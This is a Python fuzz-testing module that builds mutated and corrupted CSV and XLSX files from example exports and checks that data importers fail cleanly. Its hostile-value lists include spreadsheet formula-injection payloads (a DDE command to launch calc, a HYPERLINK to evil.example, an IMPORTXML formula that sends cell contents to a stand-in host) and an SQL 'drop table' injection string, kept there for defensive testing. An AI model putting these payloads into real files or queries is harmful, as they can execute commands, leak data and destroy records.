"""Hostile inputs for every importer, built from real export files, and the one property they share.

Seeds are the real exports in data/demo/ and data/examples/ (whatever the importers ship), so a new
vendor layout is fuzzed as soon as its example file lands. A seed's kind comes from its mapping
file (``[survey]`` -> survey) or its name (programme, session, else roster).
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import tomllib
from dataclasses import dataclass
from datetime import date
from functools import lru_cache
from pathlib import Path

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from analysis.ingest import ImportFailed, import_file
from analysis.ingest.problems import Problem
from analysis.ingest.reading import read_grid
from analysis.store.db import PARTIAL_SUFFIX, Store

REPO = Path(__file__).resolve().parents[2]
SEED_DIRS = [REPO / "data" / "demo", REPO / "data" / "examples"]

# `make test` runs a bounded, reproducible number of examples; `make fuzz` many random ones.
_QUIET = list(HealthCheck)
settings.register_profile("ci", max_examples=30, deadline=None, derandomize=True, database=None,
                          suppress_health_check=_QUIET, print_blob=True)
settings.register_profile("fuzz", max_examples=int(os.environ.get("CROSSGEN_FUZZ_EXAMPLES", "400")),
                          deadline=None, database=None, suppress_health_check=_QUIET,
                          print_blob=True)
FUZZ = settings.get_profile(os.environ.get("CROSSGEN_FUZZ_PROFILE", "ci"))


@dataclass(frozen=True)
class Seed:
    kind: str
    path: Path
    mapping: Path | None


def _kind(path: Path, mapping: Path | None) -> str:
    if mapping is not None and "survey" in tomllib.loads(mapping.read_text()):
        return "survey"
    stem = path.stem.lower()
    if "programme" in stem or "program" in stem:
        return "programme"
    if "session" in stem or "meeting" in stem:
        return "sessions"
    return "roster"


@lru_cache(maxsize=1)
def seeds() -> tuple[Seed, ...]:
    found = []
    for folder in SEED_DIRS:
        for path in sorted(folder.glob("*")):
            if path.suffix.lower() not in (".csv", ".xlsx"):
                continue
            mapping = path.with_suffix(".toml")
            mapping = mapping if mapping.exists() else None
            found.append(Seed(_kind(path, mapping), path, mapping))
    return tuple(found)


def seeds_for(kind: str) -> list[Seed]:
    return [s for s in seeds() if s.kind == kind]


@lru_cache(maxsize=64)
def seed_rows(path: Path) -> tuple[tuple[str, ...], ...]:
    grid = read_grid(path)
    return tuple(tuple(row) for row in grid.to_numpy().tolist())


# -- hostile cell values ------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3",
            "@SUM(A1:A9)", "=1/0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
ODD = ["", " ", "NaN", "nan", "inf", "-inf", "1e308", "-0", "NULL", "None", "0x1F", "١٢٣",
       "’", "\ufeff", "\u202e", "a\x00b", "\r", "\n\n", '"', '""', "'; drop table employees; --",
       "Strongly agree", "Completed", "No Show", "Voluntary > Resignation", "E000001",
       "taylor.chen.1@northwind.example", "9999-12-31", "0001-01-01", "1900-02-29"]
DATE_FORMATS = ["%Y-%m-%d", "%m/%d/%Y", "%d/%m/%Y", "%Y-%m-%d %H:%M:%S", "%m/%d/%Y %I:%M %p",
                "%d.%m.%Y", "%d-%b-%Y"]
DATE_LIKE = re.compile(r"\d{1,4}[-/.]\d{1,2}[-/.]\d{2,4}|\d{1,2}-[A-Za-z]{3}-\d{4}")


def _date_text(day: date, fmt: str) -> str:
    # strftime pads years below 1000 inconsistently across platforms: do it by hand.
    return (fmt.replace("%Y", f"{day.year:04d}").replace("%m", f"{day.month:02d}")
            .replace("%d", f"{day.day:02d}").replace("%b", day.strftime("%b"))
            .replace("%H:%M:%S", "12:30:00").replace("%I:%M %p", "01:15 PM"))


dates = st.builds(_date_text, st.dates(date(1, 1, 1), date(9999, 12, 31)),
                  st.sampled_from(DATE_FORMATS))
cells = st.one_of(
    st.sampled_from(FORMULAS), st.sampled_from(ODD), dates,
    st.text(max_size=40),
    st.integers(1_000, 300_000).map(lambda n: "A" * n),  # huge field
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)


# -- mutations on a grid (list of rows of str) ---------------------------------------------------

Grid = list[list[str]]


def _width(grid: Grid) -> int:
    return max((len(r) for r in grid), default=0)


@st.composite
def mutation(draw: st.DrawFn, grid: Grid) -> Grid:
    width, height = max(_width(grid), 1), max(len(grid), 1)
    col = draw(st.integers(0, width - 1))
    row = draw(st.integers(0, height - 1))
    op = draw(st.sampled_from(["drop_column", "duplicate_column", "extra_column", "cell",
                               "dates", "ragged", "rename_header", "blank_rows", "drop_rows"]))
    out = [list(r) for r in grid] or [[""]]
    if op == "drop_column":
        out = [r[:col] + r[col + 1:] for r in out]
    elif op == "duplicate_column":
        at = draw(st.integers(0, width))
        out = [[*r[:at], r[col] if col < len(r) else "", *r[at:]] for r in out]
    elif op == "extra_column":
        out = [[*r, draw(cells)] for r in out]
    elif op == "cell":
        while len(out[row]) <= col:
            out[row].append("")
        out[row][col] = draw(cells)
    elif op == "dates":
        day = draw(dates)
        out = [[day if DATE_LIKE.fullmatch(c.strip()) else c for c in r] for r in out]
    elif op == "ragged":
        out[row] = out[row][:col]
    elif op == "rename_header":
        header = next((i for i, r in enumerate(out) if sum(bool(c.strip()) for c in r) > 2), 0)
        while len(out[header]) <= col:
            out[header].append("")
        out[header][col] = draw(st.one_of(st.sampled_from(out[header]), cells))
    elif op == "blank_rows":
        out.insert(row, [""] * width)
    else:
        out = out[:row]
    return out


def _csv_bytes(grid: Grid, delimiter: str, encoding: str) -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(grid)
    text = buf.getvalue()
    if encoding == "mixed":
        # Rows saved by different tools: some UTF-8, some Windows-1252, some Latin-1.
        rng = random.Random(len(text))
        return b"".join(line.encode(rng.choice(["utf-8", "cp1252", "latin-1"]), "replace")
                        for line in text.splitlines(keepends=True))
    return text.encode(encoding, "replace")


def _xlsx_bytes(grid: Grid) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sheet1")
    for row in grid:  # a spreadsheet cannot hold control characters or more than 32,767 chars
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", c)[:32767] for c in row])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@st.composite
def hostile_file(draw: st.DrawFn, seed: Seed) -> tuple[bytes, str]:
    """(bytes, suffix): a truncated real export, random bytes, or a mutated sample of its rows."""
    real = seed.path.read_bytes()
    mode = draw(st.sampled_from(["truncate", "bytes", "grid", "grid", "grid"]))
    if mode == "truncate":
        return real[: draw(st.integers(0, len(real) - 1))], seed.path.suffix
    if mode == "bytes":
        head = real[: draw(st.integers(0, 400))] if seed.path.suffix == ".csv" else b""
        return head + draw(st.binary(max_size=3000)), draw(st.sampled_from([".csv", ".xlsx"]))
    rows = seed_rows(seed.path)
    lead = [list(r) for r in rows[:5]]
    picks = draw(st.lists(st.integers(5, max(len(rows) - 1, 5)), max_size=25, unique=True))
    grid = lead + [list(rows[i]) for i in sorted(picks) if i < len(rows)]
    for _ in range(draw(st.integers(0, 4))):
        grid = draw(mutation(grid))
    as_xlsx = draw(st.booleans()) if seed.path.suffix == ".xlsx" else draw(st.integers(0, 9)) == 0
    if as_xlsx:
        return _xlsx_bytes(grid), ".xlsx"
    delimiter = draw(st.sampled_from([",", ",", ";", "\t", "|"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "mixed"]))
    return _csv_bytes(grid, delimiter, encoding), ".csv"


# -- the property ---------------------------------------------------------------------------------


def archive_listing(store: Store) -> dict[str, int]:
    folder = store.archive_dir
    return {p.name: p.stat().st_size for p in folder.iterdir()} if folder.is_dir() else {}


def assert_user_facing(exc: ImportFailed, file: str) -> None:
    assert exc.problems, "ImportFailed without problems"
    for problem in exc.problems:
        assert isinstance(problem, Problem)
        assert problem.message.strip() and problem.fix.strip(), problem
        assert "Traceback" not in str(problem)
        assert problem.file, problem


def check_import(store: Store, kind: str, path: Path, mapping: Path | None) -> str:
    """Import ``path``: it either succeeds completely or fails with problems and changes nothing."""
    counts, files = store.table_counts(), archive_listing(store)
    try:
        report = import_file(store, kind, path, mapping=mapping)
    except ImportFailed as exc:
        assert_user_facing(exc, path.name)
        assert store.table_counts() == counts, "a refused import changed the database"
        assert archive_listing(store) == files, "a refused import changed the archive"
        return "refused"
    after, now = store.table_counts(), archive_listing(store)
    if report.duplicate:
        assert (after, now) == (counts, files)
        return "duplicate"
    assert after["imports"] == counts["imports"] + 1
    new = set(now) - set(files)
    assert len(new) == 1 and not any(n.endswith(PARTIAL_SUFFIX) for n in now), new
    assert (store.archive_dir / new.pop()).read_bytes() == path.read_bytes()
    assert 0 <= report.rows_accepted <= report.rows_in
    return "imported"
